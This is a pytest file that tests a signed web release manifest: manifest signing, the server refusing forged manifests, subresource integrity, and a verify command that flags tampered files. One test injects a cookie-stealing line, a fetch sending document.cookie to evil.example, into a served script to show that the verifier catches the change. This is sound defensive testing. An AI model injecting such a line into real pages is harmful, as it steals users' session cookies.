"""The signed release manifest (web/release.py): `samtal web sign-manifest` signs every file the browser runs,
the server serves exactly those files and the manifest, and `samtal web verify` finds every file a server
serves differently, or a manifest that does not verify with the release key."""
from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from crypto.encoding import b64u
from web.assets import Assets
from web.release import ReleaseError, load_release, parse_manifest, release_files, sign_manifest

from .conftest import ROOT, RunningServer, start_server, stop_server
from .tampering_proxy import tampering_proxy

SEED = bytes(range(32))


def samtal(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "web.cli", *args], cwd=ROOT, capture_output=True, text=True,
                          timeout=120)


@pytest.fixture(scope="module")
def release_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("release")
    made = samtal("web", "sign-manifest", "--key", str(folder / "key.json"), "--new-key", "--release", "r1",
                  "--out", str(folder / "r1.json"))
    assert made.returncode == 0, made.stderr
    (folder / "summary.json").write_text(made.stdout)
    return folder


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, release_dir: Path) -> Iterator[RunningServer]:
    running = start_server(tmp_path_factory.mktemp("samtal"), SAMTAL_RELEASE_MANIFEST=str(release_dir / "r1.json"),
                           SAMTAL_DEMO_STEWARD="0")
    yield running
    stop_server(running)


def release_key(release_dir: Path) -> str:
    return json.loads((release_dir / "summary.json").read_text())["release_key"]


def test_a_signed_manifest_lists_every_file_the_browser_runs_and_verifies() -> None:
    assets = Assets()
    release = parse_manifest(sign_manifest(assets, "r1", SEED))
    assert release.name == "r1" and set(release.files) == {a.url for a in assets.by_path.values()} | {"/sw.js"}
    assert release.files == release_files(assets, "r1", release.public_key)
    document = json.loads(sign_manifest(assets, "r1", SEED))
    with pytest.raises(ReleaseError, match="another release key"):
        parse_manifest(json.dumps(document).encode(), pinned_key=bytes(32))
    forged = {**document, "signature": b64u(bytes(64))}
    with pytest.raises(ReleaseError, match="signature"):
        parse_manifest(json.dumps(forged).encode())


def test_the_server_refuses_to_start_with_a_manifest_of_other_files(tmp_path: Path) -> None:
    document = json.loads(sign_manifest(Assets(), "r1", SEED))
    document["signature"] = b64u(bytes(64))
    (tmp_path / "bad.json").write_text(json.dumps(document))
    with pytest.raises(SystemExit, match="signature"):
        load_release(Assets(), tmp_path / "bad.json", tmp_path)


def test_the_server_serves_the_signed_manifest_and_its_worker(server: RunningServer, release_dir: Path) -> None:
    assert httpx.get(server.url + "/release.json").content == (release_dir / "r1.json").read_bytes()
    worker = httpx.get(server.url + "/sw.js").text
    assert json.dumps(release_key(release_dir)) in worker and '"r1"' in worker


def test_verify_passes_for_an_honest_server(server: RunningServer, release_dir: Path) -> None:
    checked = samtal("web", "verify", server.url, "--release-key", release_key(release_dir))
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert json.loads(checked.stdout.splitlines()[-1])["differences"] == 0


def test_verify_reports_a_served_script_that_differs_from_the_manifest(server: RunningServer,
                                                                        release_dir: Path) -> None:
    release = parse_manifest((release_dir / "r1.json").read_bytes())
    script = next(url for url in release.files if url.startswith("/static/js/app."))
    with tampering_proxy(server.url) as (url, proxy):
        original = httpx.get(server.url + script).content
        proxy.answer(script, original + b"\nfetch('https://evil.example/' + document.cookie);\n", "text/javascript")
        checked = samtal("web", "verify", url, "--release-key", release_key(release_dir))
    assert checked.returncode == 1
    assert f"differs: {script}" in checked.stdout
    assert json.loads(checked.stdout.splitlines()[-1])["differences"] == 1


def test_verify_refuses_a_manifest_signed_with_another_key(server: RunningServer, release_dir: Path,
                                                           tmp_path: Path) -> None:
    other = samtal("web", "sign-manifest", "--key", str(tmp_path / "other.json"), "--new-key", "--release", "r1",
                   "--out", str(tmp_path / "other-r1.json"))
    assert other.returncode == 0
    with tampering_proxy(server.url) as (url, proxy):
        proxy.answer("/release.json", (tmp_path / "other-r1.json").read_bytes(), "application/json")
        checked = samtal("web", "verify", url, "--release-key", release_key(release_dir))
    assert checked.returncode == 1 and "refused: the manifest is for another release key" in checked.stdout


def test_verify_says_when_the_server_cannot_be_reached() -> None:
    checked = samtal("web", "verify", "http://127.0.0.1:9", "--timeout", "2")
    assert checked.returncode == 3


def test_pages_load_every_script_and_style_with_subresource_integrity(server: RunningServer) -> None:
    import re

    for page in ("/", "/cases", "/inbox"):
        html = httpx.get(server.url + page).text
        tags = re.findall(r"<(?:script|link)\b[^>]*>", html)
        code = [t for t in tags if 'src="/static/' in t or ('href="/static/' in t and "icon" not in t)]
        assert code and all('integrity="sha384-' in t for t in code), page
        assert not re.search(r"<script(?![^>]*(?:src=|type=\"application/json\"))", html), "no inline script"
